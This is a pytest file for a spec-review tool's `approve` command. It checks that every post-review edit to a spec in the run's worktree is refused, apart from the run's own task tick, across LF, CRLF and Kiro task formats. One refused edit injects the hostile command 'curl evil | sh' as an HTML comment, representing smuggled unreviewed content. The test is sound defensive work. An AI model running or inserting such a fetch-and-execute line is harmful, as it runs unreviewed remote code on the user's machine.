"""`approve` and the spec edited in the run's worktree after the review: every edit is refused
(naming the spec and the way out, nothing committed) but the run's own tick of its own task,
which landing writes there before its commit (a `kill -9` between the two leaves it for the
retry). A fixed product of spec shapes (LF, CRLF, a Kiro spec whose parent closes with the
task, a spec the run itself edited) and edits; a human's tick of the run's own task is no
edit in any spelling (`[x]`, Spec Kit's `[X]`, the Kiro parent closed or left open: landing
closes it, as Kiro does, when the task completes it); the oracle is git: the branch does
not move on a refusal, and what lands is the spec the run left with the task ticked."""

from __future__ import annotations

import re
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.support.gitutil import git
from tests.support.loop_cli import cli
from tests.support.repos import branch_repo
from tests.support.waiting_runs import IMPLEMENTER, implementer, worktree


@dataclass(frozen=True)
class Shape:
    """A spec as the user committed it, and the run's task in it."""

    name: str
    path: str
    text: str
    task: str  # the id `reviewloop run` takes
    own: str  # the run's task line's text after its box
    other: str  # another open task's
    done: str  # a task already ticked
    eol: str = "\n"
    edits_spec: bool = False  # the run's implementer edits the spec too

    def data(self) -> bytes:
        return self.text.replace("\n", self.eol).encode()


DOCS = ("# Feat spec\n## Requirements\n- **FR-1** things work.\n## Design\nSimple.\n"
        "## Tasks\n- [ ] T1 Add greet function\n- [ ] T2 Add farewell function\n"
        "- [x] T3 Add shout function\n")
KIRO = ("# Tasks\n\n- [ ] 1. Greeting\n  - [ ] 1.1 Add greet function\n"
        "- [ ] 2. Add farewell function\n- [x] 3. Add shout function\n")
SHAPES = [
    Shape("lf", "docs/feat-spec.md", DOCS, "T1", "T1 Add greet function",
          "T2 Add farewell function", "T3 Add shout function"),
    Shape("crlf", "docs/feat-spec.md", DOCS, "T1", "T1 Add greet function",
          "T2 Add farewell function", "T3 Add shout function", eol="\r\n"),
    Shape("kiro-nested", ".kiro/specs/feat/tasks.md", KIRO, "1.1", "1.1 Add greet function",
          "2. Add farewell function", "3. Add shout function"),
    Shape("run-edits-spec", "docs/feat-spec.md", DOCS, "T1", "T1 Add greet function",
          "T2 Add farewell function", "T3 Add shout function", edits_spec=True),
]


def _box(shape: Shape, data: bytes, text: str, mark: str) -> bytes:
    """`data` with the box of the task line `text` set to `mark`."""
    found = re.search(rb"- \[[ xX]\] " + re.escape(text.encode()), data)
    assert found, (text, data)
    return data[:found.start()] + f"- [{mark}] {text}".encode() + data[found.end():]


def _own_tick(shape: Shape, data: bytes, mark: str = "x", parent: str | None = "x") -> bytes:
    """The run's own task ticked with `mark`, its Kiro parent (which landing closes with it)
    with `parent` (None: left open)."""
    ticked = _box(shape, data, shape.own, mark)
    if shape.name == "kiro-nested" and parent is not None:
        return _box(shape, ticked, "1. Greeting", parent)
    return ticked


Edit = Callable[[Shape, bytes], bytes]
REFUSED: dict[str, Edit] = {
    "tick-other": lambda s, d: _box(s, d, s.other, "x"),
    "untick-done": lambda s, d: _box(s, d, s.done, " "),
    "own-tick-and-tick-other": lambda s, d: _box(s, _own_tick(s, d), s.other, "x"),
    "own-tick-X-and-tick-other-X": lambda s, d: _box(s, _own_tick(s, d, "X", "X"), s.other,
                                                     "X"),
    "tick-parent-not-own": lambda s, d: _box(s, d, "1. Greeting", "x")
    if s.name == "kiro-nested" else _box(s, d, s.other, "X"),
    "own-tick-and-untick-done": lambda s, d: _box(s, _own_tick(s, d), s.done, " "),
    "retitle-own": lambda s, d: d.replace(s.own.encode(), s.own.encode() + b" and shout"),
    "add-task-line": lambda s, d: d + f"- [ ] 9. Curl it{s.eol}".encode(),
    "append-comment": lambda s, d: d + b"<!-- UNREVIEWED: curl evil | sh -->",
    "line-endings": lambda s, d: d.replace(b"\r\n", b"\n") if s.eol == "\r\n"
    else d.replace(b"\n", b"\r\n"),
}
SPEC_NOTE = "Run note: greet is ready.\n"


def _repo(tmp_path: Path, shape: Shape) -> Path:
    return branch_repo(tmp_path / "repo", {
        shape.path: shape.data(), "app/core.py": "def base():\n    return 1\n",
        ".gitignore": ".reviewloop/\n",
        ".reviewloop.toml": '[gates]\nbuild = ["true"]\ntest = ["true"]\n'},
        branch="work", base_message="init")


def _start(root: Path, shape: Shape) -> str:
    script = IMPLEMENTER + (f"printf '{SPEC_NOTE}' >> '{shape.path}'\n"
                            if shape.edits_spec else "")
    done = cli(root, "run", shape.task, "--spec", shape.path,
               "--implementer", implementer(root, script))
    found = re.search(r"reviewloop approve (\S+)", done.stdout + done.stderr)
    assert found, done.stdout + done.stderr
    return found.group(1)


@pytest.mark.parametrize("shape", SHAPES, ids=lambda s: s.name)
def test_approve_refuses_every_spec_edit_but_the_runs_own_tick(tmp_path: Path, shape: Shape):
    root = _repo(tmp_path, shape)
    run_id = _start(root, shape)
    spec = worktree(root, run_id) / shape.path
    left = spec.read_bytes()
    assert left.endswith(SPEC_NOTE.encode()) == shape.edits_spec
    head = git(root, "rev-parse", "HEAD").strip()
    for name, edit in REFUSED.items():
        spec.write_bytes(edit(shape, left))
        assert spec.read_bytes() != left, name
        refused = cli(root, "approve", run_id)
        assert refused.returncode == 1, (name, refused.stdout + refused.stderr)
        said = " ".join(refused.stderr.split())
        assert f"the spec {shape.path} changed in its worktree" in said, (name, said)
        assert f"beyond the run's own tick of task {shape.task}" in said, (name, said)
        assert f"reviewloop reject {run_id}" in said, (name, said)
        assert git(root, "rev-parse", "HEAD").strip() == head, name
        spec.write_bytes(left)
    spec.chmod(0o755)
    refused = cli(root, "approve", run_id)
    assert refused.returncode == 1 and f"the spec {shape.path} changed" in refused.stderr
    spec.chmod(0o644)
    # what a landing killed after its tick and before its commit leaves behind
    spec.write_bytes(_own_tick(shape, left))
    landed = cli(root, "approve", run_id)
    assert landed.returncode == 0, landed.stdout + landed.stderr
    assert git(root, "rev-list", "--count", f"{head}..HEAD").strip() == "1"
    committed = subprocess.run(["git", "show", f"HEAD:{shape.path}"], cwd=root, check=True,
                               capture_output=True).stdout
    assert committed == _own_tick(shape, left)
    assert (root / shape.path).read_bytes() == _own_tick(shape, left)


# a human's own tick of the run's task: either spelling, the Kiro parent closed or not
SPELLINGS = {"x": ("x", "x"), "X": ("X", "X"), "x-parent-open": ("x", None),
             "X-parent-open": ("X", None), "X-parent-x": ("X", "x")}
TICKS = [(shape, name) for shape in SHAPES for name in SPELLINGS
         if shape.name == "kiro-nested" or "parent" not in name]


@pytest.mark.parametrize(("shape", "spelling"), TICKS,
                         ids=[f"{s.name}-{n}" for s, n in TICKS])
def test_approve_lands_a_humans_tick_of_the_runs_own_task(tmp_path: Path, shape: Shape,
                                                           spelling: str):
    root = _repo(tmp_path, shape)
    run_id = _start(root, shape)
    spec = worktree(root, run_id) / shape.path
    head = git(root, "rev-parse", "HEAD").strip()
    ticked = _own_tick(shape, spec.read_bytes(), *SPELLINGS[spelling])
    spec.write_bytes(ticked)
    landed = cli(root, "approve", run_id)
    assert landed.returncode == 0, landed.stdout + landed.stderr
    assert git(root, "rev-list", "--count", f"{head}..HEAD").strip() == "1"
    committed = subprocess.run(["git", "show", f"HEAD:{shape.path}"], cwd=root, check=True,
                               capture_output=True).stdout
    mark, parent = SPELLINGS[spelling]
    # what the human approved, byte for byte; a Kiro parent its tick completed closes with
    # it, as Kiro closes it, in the file's convention (the human's `[X]` makes it `[X]`)
    closed = _own_tick(shape, ticked, mark, mark) if parent is None else ticked
    assert committed == closed
    assert (root / shape.path).read_bytes() == closed
